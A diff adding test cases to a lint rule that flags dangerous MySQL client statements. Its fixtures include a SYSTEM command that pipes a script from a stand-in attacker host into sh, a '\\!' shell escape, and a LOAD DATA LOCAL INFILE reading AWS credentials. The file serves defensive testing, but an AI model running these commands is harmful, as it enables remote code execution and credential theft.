@@ -4,6 +4,12 @@ import { HISTORY as history, mysqlRuleTester } from './tester.js';
 mysqlRuleTester(rule, {
   invalid: [
     {
+      name: 'the mysql client SYSTEM command',
+      sql: 'SYSTEM curl http://evil.example/x.sh | sh;',
+      message: /runs a shell command/,
+    },
+    { name: 'the mysql client \\! command', sql: '\\! id;', message: /`\\!` is a mysql client command/ },
+    {
       sql: "LOAD DATA LOCAL INFILE '/home/runner/.aws/credentials' INTO TABLE users;",
       history,
       message: /LOAD DATA LOCAL INFILE makes the client send a file/,
